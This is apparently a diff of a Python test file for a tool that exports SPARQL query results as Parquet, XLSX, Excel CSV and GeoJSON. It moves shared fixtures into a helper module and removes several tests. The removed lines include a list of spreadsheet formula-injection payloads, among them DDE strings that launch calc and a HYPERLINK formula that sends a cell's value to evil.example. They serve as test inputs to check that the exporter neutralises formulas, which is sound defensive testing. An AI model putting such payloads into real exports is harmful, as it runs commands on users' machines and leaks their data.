@@ -1,6 +1,5 @@
 """Tables as files: every type comes back from every file, codes whole and formulas dead."""
 
-import csv
 import io
 import json
 import re
@@ -14,78 +13,20 @@ import pyoxigraph as ox
 import pytest
 
 from queries.columns import XSD, Kind, columns_of
-from queries.engine import Table, Term
+from queries.engine import Table
 from queries.errors import FormatError
-from queries.excel_csv import guarded
-from queries.origin import Origin
-from queries.tables import TableFormat, find_table, require_place, tables_of, write_table
-
-QUERY = "# Towns\nSELECT ?code WHERE { ?town ?p ?code }"
-ORIGIN = Origin(
-    slug="towns",
-    title={"fr": "Les villes", "en": "The towns"},
-    question={"fr": "Quelles villes ?", "en": "Which towns?"},
-    parameters={"territory": "37261", "word": "=1+1"},
-    address="http://example.org/query/towns?territory=37261",
-    version="5947bc23bec5fccf",
-    date="2026-11-24",
-    licences={"https://spdx.org/licenses/etalab-2.0": ("cog/2026", "acv/2018-10")},
-    query=QUERY,
+from queries.tables import TableFormat, find_table, write_table
+from tests.queries.tabling import (
+    ORIGIN,
+    QUERY,
+    TEXTS,
+    as_excel_shows,
+    column,
+    excel_csv,
+    parquet,
+    sheet,
+    typed,
 )
-EVIL = [
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?"&A1)',
-    " =1+1",
-    "＝1+1",
-    "\"&cmd|' /C calc'!A0&\"=1",
-    '=1" & A1 & "',
-]
-TEXTS = [
-    "01004",
-    "2A004",
-    "",
-    "Château-Thierry",
-    'dit « le "Grand" »',
-    "a;b,c",
-    "one\ntwo",
-    "🏘️",
-    "1e5",
-    "mars 2024",
-    "VRAI",
-    "_x0041_",
-    *EVIL,
-]
-
-
-def typed(text: str, name: str) -> ox.Literal:
-    return ox.Literal(text, datatype=ox.NamedNode(XSD + name))
-
-
-def column(*terms: Term | None) -> Table:
-    return Table(("x",), tuple((term,) for term in terms))
-
-
-def parquet(table: Table) -> pl.DataFrame:
-    return pl.read_parquet(io.BytesIO(write_table(table, TableFormat.PARQUET, ORIGIN)))
-
-
-def sheet(table: Table, name: str = "towns") -> list[dict[str, object]]:
-    body = write_table(table, TableFormat.XLSX, ORIGIN)
-    return fastexcel.read_excel(body).load_sheet(name).to_polars().to_dicts()
-
-
-def excel_csv(table: Table) -> list[list[str]]:
-    text = write_table(table, TableFormat.EXCEL_CSV, ORIGIN).decode("utf-8-sig")
-    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
-
-
-def as_excel_shows(cell: str) -> str:
-    """Give the value of a cell that is a formula of one constant text, or the cell itself."""
-    constant = re.fullmatch(r'="((?:[^"]|"")*)"', cell)
-    return constant[1].replace('""', '"') if constant else cell
 
 
 @pytest.mark.parametrize(
@@ -310,118 +251,6 @@ def test_more_rows_than_a_sheet_holds_are_refused() -> None:
     table = Table(("x",), ((None,),) * (1 << 20))
     with pytest.raises(FormatError, match="does not fit"):
         write_table(table, TableFormat.XLSX, ORIGIN)
-
-
-def test_the_csv_of_excel_is_what_a_french_excel_reads() -> None:
-    table = Table(
-        ("name", "n", "share", "day", "yes", "none"),
-        (
-            (
-                ox.Literal("Tours; Blois"),
-                ox.Literal(1234567),
-                typed("-0.50", "decimal"),
-                typed("2024-07-01", "date"),
-                ox.Literal(False),
-                None,
-            ),
-        ),
-    )
-    body = write_table(table, TableFormat.EXCEL_CSV, ORIGIN)
-    assert body.startswith(b"\xef\xbb\xbf" + b"name;n;share;day;yes;none\r\n")
-    assert excel_csv(table)[1] == ["Tours; Blois", "1234567", "-0,50", "2024-07-01", "FAUX", ""]
-
-
-def test_excel_shows_every_text_of_its_csv_as_it_is_and_runs_none() -> None:
-    texts = [text for text in TEXTS if "\n" not in text]
-    cells = [row[0] for row in excel_csv(column(*map(ox.Literal, texts)))[1:]]
-    assert [as_excel_shows(cell) for cell in cells] == texts
-    for cell in cells:
-        # A formula is one constant text: outside its quotation marks nothing stands.
-        assert cell.strip()[:1] not in tuple("=+-@＝") or as_excel_shows(cell) != cell
-
-
-@pytest.mark.parametrize(
-    "text", ["01004", "1-2", "3/4", "1e5", "1,5", "12 %", "€ 5", "mars 2024", "Déc-24", "faux"]
-)
-def test_what_excel_would_change_is_a_constant(text: str) -> None:
-    assert guarded(text) == f'="{text}"'
-
-
-@pytest.mark.parametrize("text", ["Tours", "A7", "marsouin", "Mayenne", "Vraiment", "é"])
-def test_a_plain_text_is_left_alone(text: str) -> None:
-    assert guarded(text) == text
-
-
-@pytest.mark.parametrize("text", ["=A1\n=A2", "=" + "a" * 300, "\t=1", "9" * 300])
-def test_what_no_constant_holds_gets_an_apostrophe(text: str) -> None:
-    assert guarded(text) == f"'{text}"
-
-
-def test_lines_of_a_cell_break_as_excel_breaks_them() -> None:
-    rows = excel_csv(column(ox.Literal("one\r\ntwo\rthree")))
-    assert rows[1] == ["one\ntwo\nthree"]
-
-
-def test_points_are_features_and_a_row_without_place_stays() -> None:
-    table = Table(
-        ("name", "longitude", "latitude", "since", "share"),
-        (
-            (
-                ox.Literal("Tours"),
-                typed("0.6889", "decimal"),
-                typed("47.3900", "decimal"),
-                typed("2024-07-01", "date"),
-                typed("0.25", "decimal"),
-            ),
-            (ox.Literal("Nowhere"), None, None, None, None),
-            (ox.Literal("Off"), typed("0.5", "decimal"), typed("147.0", "decimal"), None, None),
-        ),
-    )
-    found = json.loads(write_table(table, TableFormat.GEOJSON, ORIGIN))
-    assert found["type"] == "FeatureCollection"
-    assert found["origin"]["version"] == ORIGIN.version
-    tours, nowhere, off = found["features"]
-    assert tours["geometry"] == {"type": "Point", "coordinates": [0.6889, 47.39]}
-    assert tours["properties"] == {"name": "Tours", "since": "2024-07-01", "share": 0.25}
-    assert nowhere["geometry"] is None and nowhere["properties"]["name"] == "Nowhere"
-    assert off["geometry"] is None and off["properties"]["latitude"] == 147.0
-
-
-@pytest.mark.parametrize(
-    ("wkt", "geometry"),
-    [
-        ("POINT(0.5 47)", {"type": "Point", "coordinates": [0.5, 47]}),
-        (
-            "<http://www.opengis.net/def/crs/OGC/1.3/CRS84> POINT(0.5 47)",
-            {"type": "Point", "coordinates": [0.5, 47]},
-        ),
-        (
-            "POLYGON((0 0,1 0,1 1,0 0))",
-            {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 0]]]},
-        ),
-        # Latitude first: GeoJSON has no word for it.
-        ("<http://www.opengis.net/def/crs/EPSG/0/4326> POINT(47 0.5)", None),
-        ("POINT(a b)", None),
-        ("nonsense", None),
-    ],
-)
-def test_a_wkt_literal_is_a_geometry_where_it_can_be_read(wkt: str, geometry) -> None:
-    literal = ox.Literal(
-        wkt, datatype=ox.NamedNode("http://www.opengis.net/ont/geosparql#wktLiteral")
-    )
-    table = Table(("name", "wkt"), ((ox.Literal("x"), literal),))
-    (feature,) = json.loads(write_table(table, TableFormat.GEOJSON, ORIGIN))["features"]
-    assert feature["geometry"] == geometry
-    assert feature["properties"].get("wkt") == (None if geometry else wkt)
-
-
-def test_geojson_exists_only_where_rows_stand_somewhere() -> None:
-    assert TableFormat.GEOJSON in tables_of(("name", "longitude", "latitude"))
-    assert TableFormat.GEOJSON in tables_of(("wkt",))
-    assert TableFormat.GEOJSON not in tables_of(("name", "longitude"))
-    with pytest.raises(FormatError, match="GeoJSON") as caught:
-        require_place(("name",))
-    assert "wkt" in caught.value.why
 
 
 def test_the_names_of_the_formats_are_told_apart() -> None:
